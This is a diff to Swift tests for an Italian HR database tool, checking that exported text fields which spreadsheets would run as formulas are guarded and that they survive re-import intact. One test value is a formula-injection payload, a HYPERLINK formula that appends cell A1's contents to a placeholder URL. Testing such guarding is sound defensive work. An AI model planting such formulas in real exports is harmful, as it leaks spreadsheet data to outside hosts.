@@ -106,6 +106,18 @@ struct DatabaseCommandTests {
         let imported = try db(["import", "--body", "demo", "--data", demo, "--config", Self.config, "--actor", "hr.rossi"], on: database)
         #expect(imported.status == 0, "\(imported.standardError)")
         #expect(imported.standardOutput.contains("Importato: nuovo ente demo, anno 2019: 277 persone"))
+        // Texts a spreadsheet would run as formulas, and one that truly starts with an apostrophe: the export writes them
+        // guarded, the import reads them back as they were.
+        let formula = "=HYPERLINK(\"http://x/?\"&A1;\"Clicca\")"
+        try database.withConnection { db in
+            _ = try db.execute("""
+                UPDATE individual_objectives SET title = $1
+                WHERE (employee_id, code) = (SELECT employee_id, code FROM individual_objectives ORDER BY employee_id, code LIMIT 1)
+                """, [formula])
+            _ = try db.execute("UPDATE employees SET name = $1 WHERE employee_id = (SELECT min(employee_id) FROM employees)", ["'-Rossi"])
+            _ = try db.execute("UPDATE staff_years SET not_assessable_reason = $1 WHERE employee_id = 'E0110'",
+                               ["+ di sei mesi di assenza"])
+        }
         let run = try db(["run", "--body", "demo", "--year", "2019", "--actor", "hr.rossi"], on: database)
         #expect(run.status == 0, "\(run.standardError)")
         #expect(run.standardOutput.contains("Ripartizione registrata"))
@@ -136,6 +148,17 @@ struct DatabaseCommandTests {
         #expect(original.people.count == 277)
         #expect(reimported.people == original.people)
         #expect(reimported.funds == original.funds)
+        let texts = { (body: String) in
+            try database.withConnection { db in
+                try db.execute("""
+                    SELECT (SELECT string_agg(employee_id || code || title, '|' ORDER BY employee_id, code) FROM individual_objectives WHERE body_id = $1)
+                        || (SELECT string_agg(employee_id || name, '|' ORDER BY employee_id) FROM employees WHERE body_id = $1)
+                        || (SELECT string_agg(employee_id || coalesce(not_assessable_reason, '-'), '|' ORDER BY employee_id) FROM staff_years WHERE body_id = $1) AS t
+                    """, [body])[0].string("t")
+            }
+        }
+        #expect(try texts("copia") == texts("demo"))
+        #expect(try texts("copia").contains(formula) && texts("copia").contains("'-Rossi") && texts("copia").contains("+ di sei mesi"))
 
         let status = try report(["status"], on: database)
         let years = try #require(status["years"] as? [[String: Any]]).map { "\($0["body"] ?? "") \($0["state"] ?? "")" }
